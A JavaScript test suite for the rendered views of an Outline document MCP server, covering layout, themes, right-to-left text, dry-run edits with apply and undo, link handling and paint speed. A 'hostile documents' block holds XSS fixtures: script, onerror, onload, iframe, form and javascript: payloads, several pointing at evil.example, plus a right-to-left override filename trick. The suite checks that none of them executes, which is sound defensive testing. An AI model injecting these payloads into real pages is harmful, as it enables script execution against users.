// Shows every view in Chromium, as people see it in a client with MCP Apps: on a phone and a
// desktop, light and dark, with the keyboard alone. Set SCREENSHOTS to a folder to see them.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { Host, looks, skip } from "./host.mjs";

const rtl = "مرحبا";

describe("views", { skip }, () => {
  let host, document;
  before(async () => {
    host = await Host.start();
    const { results } = await host.structured("search_documents", { query: "deploy" });
    document = await host.structured("read_document", { document_id: results[0].document_id });
  });
  after(() => host?.stop());

  // create adds a document to the workspace and returns its ID.
  const create = async (title, text) =>
    (await host.structured("create_document", { title, text, collection_id: document.collection_id })).document_id;

  // passage returns a passage that occurs once in a document.
  const passage = (text) => text.split("\n").find((line) => line.length > 30 && !/[[|*_`]/.test(line) && text.split(line).length === 2);

  // calls returns one call of each tool that has a view.
  const calls = () => ({
    edit_document: { document_id: document.document_id, edits: [{ old_text: passage(document.text), new_text: "A new passage." }], dry_run: true },
    read_document: { document_id: document.document_id },
    search_documents: { query: "deploy" },
    list_documents: {},
    find_in_documents: { query: "deploy" },
    get_collection_structure: { collection_id: document.collection_id },
  });

  for (const [look, settings] of Object.entries(looks)) {
    for (const name of ["edit_document", "read_document", "search_documents", "list_documents", "find_in_documents", "get_collection_structure"]) {
      it(`show what ${name} answers ${look}`, async (t) => {
        const shown = await host.show(t, name, calls()[name], { look: settings });
        await shown.says(name === "edit_document" ? "A new passage." : document.title.slice(0, 20));
        await shown.fits(`${name} ${look}`);
      });
    }
  }

  it("follow the host from light to dark", async (t) => {
    const shown = await host.show(t, "read_document", calls().read_document);
    await shown.says(document.title);
    const frame = await shown.frame();
    const colour = () => frame.evaluate(() => getComputedStyle(document.documentElement).colorScheme);
    await shown.page.evaluate(() => window.bridge.setHostContext({ theme: "dark", styles: { variables: { "--color-background-primary": "#102030", "--color-text-primary": "#f0f0f0" } } }));
    await frame.waitForFunction(() => getComputedStyle(document.documentElement).colorScheme === "dark");
    assert.equal(await colour(), "dark");
    await shown.fits("host in other colours");
  });

  it("show text from right to left", async (t) => {
    const id = await create(`${rtl} ${rtl}`, `# ${rtl}\n\n${`${rtl} `.repeat(30)}\n\nleft to right`);
    const shown = await host.show(t, "read_document", { document_id: id }, { look: looks["on a phone, light"], context: { locale: "ar" } });
    await shown.says(rtl);
    await shown.fits("right to left");
  });

  it("apply a dry run with the keyboard, and undo it", async (t) => {
    const id = await create("To be edited", "The first line.\n\nThe second line.");
    const edits = [{ old_text: "second", new_text: "last" }];
    const shown = await host.show(t, "edit_document", { document_id: id, edits, dry_run: true });
    await shown.press("button", "Apply");
    await shown.says("Applied.");
    await shown.fits("applied");
    const call = shown.calls.find(({ name }) => name === "edit_document");
    assert.deepEqual([call.arguments.edits, call.arguments.dry_run ?? false, call.arguments.expected_revision > 0], [edits, false, true]);
    assert.match((await host.structured("read_document", { document_id: id })).text, /The last line/);
    await shown.press("button", "Undo");
    await shown.says("Undone.");
    await shown.fits("undone");
    assert.match((await host.structured("read_document", { document_id: id })).text, /The second line/);
  });

  it("apply nothing after a change by somebody else", async (t) => {
    const id = await create("Edited by two", "The first line.\n\nThe second line.");
    const shown = await host.show(t, "edit_document", { document_id: id, edits: [{ old_text: "second", new_text: "last" }], dry_run: true });
    await host.structured("edit_document", { document_id: id, edits: [{ old_text: "first", new_text: "other" }] });
    await shown.press("button", "Apply");
    await shown.view.getByRole("status").filter({ hasText: /revision|changed/i }).waitFor();
    await shown.fits("edited by two");
    assert.doesNotMatch((await host.structured("read_document", { document_id: id })).text, /The last line/);
  });

  it("discard a dry run", async (t) => {
    const id = await create("Not to be edited", "The first line.");
    const shown = await host.show(t, "edit_document", { document_id: id, edits: [{ old_text: "first", new_text: "last" }], dry_run: true });
    await shown.press("button", "Discard");
    await shown.fits("discarded");
    assert.deepEqual(shown.calls, []);
    assert.equal(await shown.view.getByRole("button", { name: "Apply" }).count(), 0);
  });

  it("open links through the host alone", async (t) => {
    // Outline stores no such links; an answer could still have them.
    const text = "[away](https://example.com/x) [script](javascript:alert(1)) [data](data:text/html,x)";
    const shown = await host.show(t, "read_document", {}, { answer: answerOf({ ...document, text }) });
    await shown.view.getByText("away").click();
    await shown.view.getByText("script").click();
    await shown.view.getByText("data").click();
    assert.deepEqual(shown.opened, ["https://example.com/x"]);
    shown.clean("links");
  });

  it("hand chosen documents to the conversation", async (t) => {
    const shown = await host.show(t, "search_documents", { query: "deploy" });
    await shown.press("checkbox", /^Choose/, "Space");
    await shown.says("1 document handed to the conversation.");
    await shown.fits("chosen");
    assert.match(shown.contexts[0].content[0].text, /document_id [0-9a-f-]{36}$/);
  });

  it("read a document that was found in place", async (t) => {
    const shown = await host.show(t, "search_documents", { query: "deploy" });
    await shown.press("button", document.title);
    await shown.view.getByRole("button", { name: "Open in Outline" }).waitFor();
    await shown.fits("read in place");
    await shown.press("button", "Back");
    await shown.view.getByRole("checkbox").first().waitFor();
  });

  it("say calmly that a call of theirs has failed", async (t) => {
    const shown = await host.show(t, "search_documents", { query: "deploy" });
    shown.refuse = { read_document: { isError: true, content: [{ type: "text", text: "read_document: Outline does not answer." }] } };
    await shown.press("button", document.title);
    await shown.says("Outline does not answer.");
    await shown.fits("failed in place");
  });

  it("say calmly that a call has failed", async (t) => {
    const shown = await host.show(t, "read_document", { document_id: "00000000-0000-4000-8000-000000000000" });
    await shown.says(/nothing found/);
    await shown.fits("not found");
  });

  describe("of hostile documents", () => {
    const markup = [
      `<script>parent.postMessage("x", "*"); fetch("https://evil.example/script")</script>`,
      `<img src="https://evil.example/img" onerror="alert(1)">`, `<svg onload="alert(1)"></svg>`, `<style>* { display: none }</style>`,
      `<iframe src="https://evil.example/frame"></iframe>`, `<a href="javascript:alert(1)">click</a>`, `<form action="https://evil.example/form"><input></form>`,
      `![picture](https://evil.example/picture.png)`, `\u202egnp.exe \u2066hidden`,
      "```html\n<script>alert(1)</script>\n```", "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```", "$$\\href{javascript:alert(1)}{x}$$",
    ];

    it("run nothing and load nothing", async (t) => {
      const id = await create(`<img src=x onerror=alert(1)>`, `Before.\n\n${markup.join("\n\n")}\n\nAfter.`);
      for (const [name, args] of Object.entries({ read_document: {}, edit_document: { edits: [{ old_text: "Before.", new_text: markup[0] }], dry_run: true } })) {
        const shown = await host.show(t, name, { document_id: id, ...args });
        await shown.says(name === "read_document" ? "After." : "parent.postMessage");
        const frame = await shown.frame();
        assert.equal(await frame.locator("script").count(), 1, "the page's own script");
        assert.equal(await frame.locator("iframe, form[action], [onerror], [onload], a[href^='javascript:']").count(), 0);
        await shown.fits(`hostile ${name}`);
        assert.deepEqual(shown.opened, []);
      }
    });

    for (const [what, text] of Object.entries({
      "1 MB of text": "All work and no play makes Jack a dull boy.\n\n".repeat(22_000),
      "a table of 5,000 rows": `| a | b |\n|---|---|\n${"| one | two |\n".repeat(5000)}`,
      "one long line": "x".repeat(300_000),
      "deep nesting": Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n"),
    })) {
      it(`show ${what} while they stay usable`, async (t) => {
        const answer = answerOf({ ...document, text });
        const shown = await host.show(t, "read_document", {}, { answer, look: looks["on a phone, light"] });
        await shown.says(document.title);
        shown.clean(what);
      });
    }
  });

  it("paint 100 KB within 300 ms", async (t) => {
    const text = "## A heading\n\nSome **text** with `code` and a [link](https://example.com).\n\n- one\n- two\n\n".repeat(1150).slice(0, 100_000);
    const times = [];
    for (let i = 0; i < 3; i++) {
      const shown = await host.show(t, "read_document", {}, { answer: answerOf({ ...document, text }) });
      await shown.says("A heading");
      const frame = await shown.frame();
      times.push(await (await frame.waitForFunction(() => window.paintedAfter)).jsonValue());
    }
    assert.ok(Math.min(...times) <= 300, `first paint after ${times.map(Math.round)} ms`);
  });
});

// answerOf returns an answer with structured content, as the server gives it to views.
const answerOf = (structured) => ({ content: [{ type: "text", text: "" }], _meta: { "outline-mcp/structuredContent": structured } });
